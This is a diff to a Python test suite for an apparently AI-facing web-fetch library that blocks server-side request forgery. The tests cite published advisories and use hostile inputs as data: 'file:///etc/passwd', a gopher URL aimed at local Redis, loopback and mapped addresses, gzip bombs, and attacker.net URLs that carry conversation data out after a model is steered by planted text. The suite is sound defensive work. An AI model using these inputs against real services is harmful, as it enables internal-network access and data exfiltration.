@@ -6,27 +6,40 @@ writes it to the page: a guard that is sound in its helper and absent on one of 
 
 import ast
 import gzip
+import os
 import socket
 import time
+import tracemalloc
 import zlib
+from collections.abc import Callable, Mapping, Sequence
+from functools import partial
 from pathlib import Path
 from typing import Any
 
+import attrs
 import pytest
 
 import hostcall
 import hostcall_drivers
-from hostcall.commands import Connect
+from hostcall.answer.answer import Answer
+from hostcall.commands import Command, Connect, Resolve
 from hostcall.data import CheckedAddress, Refused
+from hostcall.events import ResponseStarted
 from hostcall.limits import Limits
+from hostcall.machine import Slots
+from hostcall.testing import ScriptedDriver, address_of, reply_calls, reply_text
+from hostcall.testing import World as AnswerWorld
 from hostcall.web.address import checked_addresses
 from hostcall.web.content import Body
-from hostcall.web.crawl import CrawlReport
+from hostcall.web.crawl import Crawl, CrawlReport
 from hostcall.web.hosts import read_host
 from hostcall.web.networks import Networks
 from hostcall.web.ranges import REGISTRY_DATE, is_public, read_ip
+from hostcall.web.seen import SeenHosts
 from hostcall.web.settings import Web
+from hostcall_drivers.wire import Exchange
 from tests.cases.address import World
+from tests.core.web.scripted_web import ScriptedWeb, moved, page
 
 PUBLIC = "93.184.215.14"
 CORE, DRIVERS = Path(hostcall.__file__).parent, Path(hostcall_drivers.__file__).parent
@@ -69,16 +82,35 @@ def _moved(location: str) -> list[dict[str, Any]]:
     return [_answer(302, ("Location", location), text=""), _answer(text="secret")]
 
 
-def _calls(*names: str, below: Path = Path("/")) -> list[str]:
-    """Return where in the package one of the names is called."""
+def _named(*names: str, below: Path = Path("/")) -> list[str]:
+    """Return where in the package one of the names stands: called, asked of something, passed or imported."""
     found = []
     for path, tree in SOURCES.items():
-        for node in ast.walk(tree):
-            if path.is_relative_to(below) and isinstance(node, ast.Call):
-                name = node.func.attr if isinstance(node.func, ast.Attribute) else getattr(node.func, "id", "")
-                if name in names:
-                    found.append(f"{path.name}:{node.lineno}")
+        if path.is_relative_to(below):
+            for node in ast.walk(tree):
+                said = {getattr(node, field, None) for field in ("id", "attr", "arg", "name")}
+                if not said.isdisjoint(names):
+                    found.append(f"{path.name}:{getattr(node, 'lineno', 0)}")
     return found
+
+
+def _memory_of(work: Callable[[], object]) -> int:
+    """Return how many bytes `work` held at once at the most."""
+    tracemalloc.start()
+    try:
+        work()
+        return tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+
+
+def _answered(conversation: Sequence[Mapping[str, Any]], url: str, **world: Any) -> tuple[ScriptedDriver, AnswerWorld]:
+    """Run an answer whose model asks for `url` at once, and then says something."""
+    replies = [reply_calls(("fetch_page_content_recursive", {"url": url})), reply_text("That is all.")]
+    served = AnswerWorld(engine=replies, **world)
+    driver = ScriptedDriver(served)
+    driver.run(Answer(conversation))
+    return driver, served
 
 
 def test_01_a_host_that_begins_with_a_seen_one_is_another() -> None:
@@ -95,12 +127,27 @@ def test_02_there_is_no_second_lookup_between_check_and_connection() -> None:
     assert world.connects[0].addresses == (CheckedAddress(PUBLIC),)
 
 
-@pytest.mark.parametrize("name", ["ALLOW_PRIVATE", "HOSTCALL_ALLOW_LOCAL", "LANGCHAIN_ENV", "NO_PROXY", "HTTPS_PROXY"])
-def test_03_no_environment_variable_changes_a_verdict(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
+class _SaysYes(dict[str, str]):
+    """An environment in which every variable is set."""
+
+    def __contains__(self, name: object) -> bool:
+        return True
+
+    def __missing__(self, name: str) -> str:
+        return "1"
+
+    def get(self, name: str, default: object = None) -> str:
+        return "1"
+
+
+def test_03_no_environment_variable_changes_a_verdict(monkeypatch: pytest.MonkeyPatch) -> None:
     """langchain issue 37297: a variable that switches the guard off."""
-    monkeypatch.setenv(name, "1")
+    monkeypatch.setattr(os, "environ", _SaysYes())
+    assert os.getenv("HOSTCALL_ALLOW_LOCAL") == "1"
     assert not _connected("https://127.0.0.1/")
     assert not _connected(dns={"*": ["10.0.0.1"]})
+    assert not _opened(exchange=_moved("https://[::1]/"))
+    assert not _named("environ", "environb", "getenv", below=CORE)
 
 
 @pytest.mark.parametrize(
@@ -119,7 +166,7 @@ def test_05_the_address_is_read_once_and_everything_is_built_from_its_parts() ->
     request = world.connects[0]
     assert request.server_name == "example.org"
     assert (request.request.target, request.request.headers[0]) == ("/b?c", ("Host", "example.org"))
-    assert not _calls("urlsplit", "urlparse", "urljoin", below=CORE / "web")
+    assert not _named("urlsplit", "urlparse", "urljoin", below=CORE / "web")
 
 
 def test_06_a_backslash_is_not_repaired() -> None:
@@ -129,7 +176,7 @@ def test_06_a_backslash_is_not_repaired() -> None:
 
 
 @pytest.mark.parametrize(
-    "url", ["file:///etc/passwd", "ftp://example.org/", "gopher://127.0.0.1:6379/_INFO", "data:text/html,x"]
+    "url", ["file:///etc/passwd", "ftp://other.net/", "gopher://127.0.0.1:6379/_INFO", "data:text/html,x"]
 )
 def test_07_only_https_is_opened(url: str) -> None:
     """vLLM GHSA-3f6c-7fw2-ppm4."""
@@ -148,7 +195,25 @@ def test_08_a_mapped_address_is_refused_in_both_notations_through_the_whole_path
 
 def test_09_an_address_in_text_of_another_role_is_not_seen() -> None:
     """pydantic-ai GHSA-2jrp-274c-jhv3: addresses in the history were fetched."""
-    assert not _connected("https://attacker.net/", seen=None, user=["hi"], pages=["https://attacker.net/"])
+    asked = {
+        "id": "c",
+        "type": "function",
+        "function": {"name": "look", "arguments": '{"at": "https://attacker.net/"}'},
+    }
+    history: list[dict[str, Any]] = [
+        {"role": "system", "content": "You may read https://attacker.net/."},
+        {"role": "user", "content": "Read https://example.org/, please."},
+        {"role": "assistant", "content": "See https://attacker.net/.", "tool_calls": [asked]},
+        {"role": "tool", "tool_call_id": "c", "content": "It stands at https://attacker.net/."},
+        {"role": "assistant", "content": "It stands at attacker.net."},
+        {"role": "user", "content": "Go on."},
+    ]
+    driver, _ = _answered(history, "https://attacker.net/?q=the+conversation")
+    assert not [request for request in driver.requests if isinstance(request, Resolve | Connect)]
+    driver, _ = _answered(history, "https://example.org/")
+    assert [address_of(request) for request in driver.requests if isinstance(request, Connect)] == [
+        "https://example.org/"
+    ]
 
 
 @pytest.mark.parametrize(
@@ -177,7 +242,13 @@ def test_12_each_hop_is_looked_up_and_checked_anew() -> None:
 
 def test_13_a_connection_takes_nothing_but_checked_addresses_and_one_function_makes_them() -> None:
     """FastGPT CVE-2026-44286, CVE-2026-26075, CVE-2026-34163: a second path without the check."""
-    assert [place.partition(":")[0] for place in _calls("CheckedAddress")] == ["address.py"]
+    made = [
+        path.name
+        for path, tree in SOURCES.items()
+        for node in ast.walk(tree)
+        if isinstance(node, ast.Call) and getattr(node.func, "attr", getattr(node.func, "id", "")) == "CheckedAddress"
+    ]
+    assert made == ["address.py"]
     assert Connect.__annotations__["addresses"] == tuple[CheckedAddress, ...]
 
 
@@ -204,7 +275,7 @@ def test_16_6to4_and_site_local_are_refused(address: str) -> None:
 def test_17_what_is_not_private_is_not_therefore_public(address: str) -> None:
     """Gitea CVE-2026-22874: a test for private addresses used as a guard."""
     assert not _connected(dns={"*": [address]})
-    assert not _calls("is_private", "is_global", "is_loopback", "is_reserved")
+    assert not _named("is_private", "is_global", "is_loopback", "is_reserved", "is_link_local", "is_multicast")
 
 
 @pytest.mark.parametrize("address", ["2002:c0a8:1::", "64:ff9b::c0a8:1", "fec0::c0a8:1", "::c0a8:1"])
@@ -235,10 +306,56 @@ def test_21_a_check_of_the_first_address_is_not_a_check_of_the_fetch() -> None:
     assert not _opened(dns={"*": [PUBLIC], "other.net": ["10.0.0.1"]}, exchange=_moved("https://other.net/"))
 
 
+@attrs.define
+class _Watched(ScriptedWeb):
+    """Keeps every request that is made of it."""
+
+    requests: list[Resolve | Connect] = attrs.field(factory=list)
+
+    def take(self, commands: Sequence[Command]) -> None:
+        self.requests += [command for command in commands if isinstance(command, Resolve | Connect)]
+        super().take(commands)
+
+
 def test_22_every_request_of_a_fetch_goes_through_the_gate_and_there_are_no_others() -> None:
     """mcp-server-fetch issues 4838, 4492: no check, and none for robots.txt either."""
-    world = _run()
-    assert [connect.request.target for connect in world.connects] == ["/"]
+    web = _Watched(
+        {
+            "example.org/": page("Home", "/a", "/b", "https://www.example.org/c", "https://other.net/", "/inner"),
+            "example.org/a": moved("/d"),
+            "example.org/b": page("B"),
+            "www.example.org/c": moved("https://third.net/"),
+            "example.org/d": page("D"),
+            "third.net/": page("Third", "/more"),
+            "example.org/inner": moved("https://inside.net/"),
+        },
+        hosts={"inside.net": "10.0.0.1"},
+    )
+    seen = SeenHosts(Limits())
+    seen.add_host("example.org")
+    crawl = Crawl(
+        "https://example.org/",
+        seen=seen,
+        limits=Limits(),
+        id="c",
+        web=Web(),
+        networks=Networks.of(Web()),
+        slots=Slots(8, 2),
+        take_page=lambda: True,
+        pages_left=lambda: 12,
+    )
+    web.run(crawl)
+    assert isinstance(crawl.result, CrawlReport)
+    # A page, a link or a Location, each asked for once, and nothing besides.
+    assert sorted(web.asked) == sorted(web.pages)
+    # Each has its own lookup, and goes by number to what that lookup gave.
+    connects = [request for request in web.requests if isinstance(request, Connect)]
+    lookups = {request.id for request in web.requests if isinstance(request, Resolve)}
+    gates = [connect.id.removesuffix("get") + "lookup" for connect in connects]
+    assert len(set(gates)) == len(gates)
+    assert set(gates) <= lookups
+    assert {connect.addresses for connect in connects} == {(CheckedAddress(PUBLIC),)}
+    assert lookups - set(gates) == {"c.p4.h1.lookup"}  # what is inside was looked up and not connected to
 
 
 def test_23_a_literal_of_a_metadata_service_is_refused() -> None:
@@ -251,9 +368,14 @@ def test_24_the_one_who_connects_follows_nothing() -> None:
     """guidance 1511, OpenJarvis 965, CowAgent 2900, Token-Print 271: a client that follows redirects by itself."""
     world = _run(exchange=_moved("https://127.0.0.1/"))
     assert len(world.connects) == 1
-    text = "".join(path.read_text(encoding="utf-8") for path in SOURCES)
-    assert "follow_redirects" not in text
-    assert "allow_redirects" not in text
+    connect = world.connects[0]
+    exchange = Exchange(connect.request, connect.bounds, connect.id, peer=PUBLIC)
+    sent = bytes(exchange.to_send)
+    moved_on = exchange.receive(b"HTTP/1.1 302 Found\r\nLocation: https://127.0.0.1/\r\nContent-Length: 0\r\n\r\n")
+    assert isinstance(moved_on[0], ResponseStarted)
+    assert moved_on[0].status == 302
+    assert bytes(exchange.to_send) == sent
+    assert not _named("follow_redirects", "allow_redirects", "max_redirects")
 
 
 @pytest.mark.parametrize("name", ["http_proxy", "https_proxy", "ALL_PROXY", "HTTPS_PROXY"])
@@ -261,7 +383,7 @@ def test_25_proxy_variables_change_nothing(name: str, monkeypatch: pytest.Monkey
     """OpenClaw PR 45252: checked addresses were dropped when a proxy was set."""
     monkeypatch.setenv(name, "http://127.0.0.1:3128")
     assert _run().connects[0].addresses == (CheckedAddress(PUBLIC),)
-    assert not _calls("getproxies", "trust_env")
+    assert not _named("getproxies", "proxy_bypass", "trust_env", "ProxyHandler")
 
 
 def test_26_there_is_no_second_http_client_in_the_package() -> None:
@@ -298,6 +420,8 @@ def test_29_addresses_are_judged_as_numbers_and_not_as_texts() -> None:
         address = read_ip(text)
         assert address is not None
         assert not is_public(address)
+    for text in ("100.63.0.1", "101.0.0.1", "172.160.0.1", "192.16.80.1", "12.7.0.0", "16.9.254.1", "2a00:10:127:0::1"):
+        assert _opened(dns={"*": [text]})
 
 
 def test_30_networks_of_both_families_match_in_settings() -> None:
@@ -316,7 +440,7 @@ def test_31_a_mapped_address_is_no_way_to_an_inner_page() -> None:
 @pytest.mark.parametrize("host", ["localhost.", "127.0.0.1.", "[0:0:0:0:0:0:0:1]", "[0000:0000::0001]", "LOCALHOST."])
 def test_32_trailing_dots_and_long_forms_are_read_as_what_they_are(host: str) -> None:
     """Vercel AI SDK before 6.0.203."""
-    assert not _connected(f"https://{host}/")
+    assert _code(_run(f"https://{host}/")) == "not_public"
 
 
 @pytest.mark.parametrize(
@@ -345,11 +469,10 @@ def _bomb(size: int, wbits: int = 31) -> bytes:
 
 def test_35_unpacking_never_makes_more_than_was_asked_for() -> None:
     """urllib3 CVE-2025-66471."""
+    packed = _bomb(50_000_000)
     body = Body("gzip", 2_000_000)
-    start = time.process_time()
-    body.feed(_bomb(50_000_000))
+    assert _memory_of(partial(body.feed, packed)) < 10_000_000
     assert (body.size, body.full) == (2_000_000, True)
-    assert time.process_time() - start < 1
 
 
 def test_36_the_body_of_a_redirect_is_not_read_at_all() -> None:
@@ -358,14 +481,18 @@ def test_36_the_body_of_a_redirect_is_not_read_at_all() -> None:
     world = _run(exchange=[_answer(302, *fields, make="zeros", size=3_000_000, encode=["gzip"]), _answer()])
     assert isinstance(world.crawl.result, CrawlReport)
     assert world.records[0].record.wire_bytes == 0
+    assert world.connects[0].id in world.cancelled
 
 
 def test_37_what_follows_the_limit_is_not_unpacked_later() -> None:
     """urllib3 CVE-2026-44432."""
-    body = Body("gzip", 1000)
-    body.feed(_bomb(1_000_000))
-    body.feed(gzip.compress(bytes(1_000_000)))
-    assert body.size == 1000
+    packed = _bomb(20_000_000)
+    for first in (gzip.compress(bytes(1000)), gzip.compress(bytes(1001)), packed):
+        body = Body("gzip", 1000)
+        body.feed(first)
+        assert _memory_of(partial(body.feed, packed)) < 1_000_000
+        assert _memory_of(partial(body.feed, packed)) < 1_000_000
+        assert (body.size, body.full) == (1000, True)
 
 
 def test_38_stacked_codings_are_refused_before_a_byte_is_unpacked() -> None:
@@ -431,12 +558,34 @@ def test_45_data_cannot_leave_in_an_address_that_a_page_dictates() -> None:
     assert not _connected("https://attacker.net/?q=secrets", seen=None, user=["news"], results=results, pages=[page])
 
 
-def test_46_no_inner_address_or_detail_is_told_to_the_asker() -> None:
+@pytest.mark.parametrize(
+    ("inner", "given"),
+    [
+        ("10.11.12.13", {"dns": {"*": ["10.11.12.13"]}}),
+        ("10.11.12.13", {"dns": {"*": [PUBLIC], "in.net": ["10.11.12.13"]}, "exchange": _moved("https://in.net/")}),
+        ("in.net", {"dns": {"*": [PUBLIC], "in.net": ["10.11.12.13"]}, "exchange": _moved("https://in.net/")}),
+        ("10.11.12.13", {"exchange": _moved("https://10.11.12.13/")}),
+        ("router.local", {"exchange": _moved("https://router.local/")}),
+        ("10.11.12.13", {"exchange": _moved("http://10.11.12.13:8080/")}),
+    ],
+)
+def test_46_no_inner_address_or_detail_is_told_to_the_asker(inner: str, given: dict[str, Any]) -> None:
     """vllm-mlx 490."""
-    world = _run(dns={"*": ["10.11.12.13"]})
-    assert isinstance(world.crawl.result, Refused)
-    assert "10.11.12.13" not in world.crawl.result.reason
-    assert "10.11.12.13" in world.records[0].record.detail
+    result = _run(**given).crawl.result
+    assert isinstance(result, Refused)
+    assert inner not in result.reason
+
+
+def test_46_the_journal_is_told_what_the_model_and_the_reader_are_not() -> None:
+    driver, world = _answered(
+        [{"role": "user", "content": "Read https://example.org/."}],
+        "https://example.org/",
+        dns={"example.org": ["10.11.12.13"]},
+    )
+    told = [repr(notice) for notice in driver.notices if "10.11.12.13" in repr(notice)]
+    assert [notice.partition("(")[0] for notice in told] == ["LogFetch"]
+    assert "10.11.12.13" not in repr(world.asked)
+    assert "not on the public internet" in repr(world.asked)
 
 
 def test_the_address_of_a_command_is_never_a_name_that_could_be_looked_up_again() -> None:
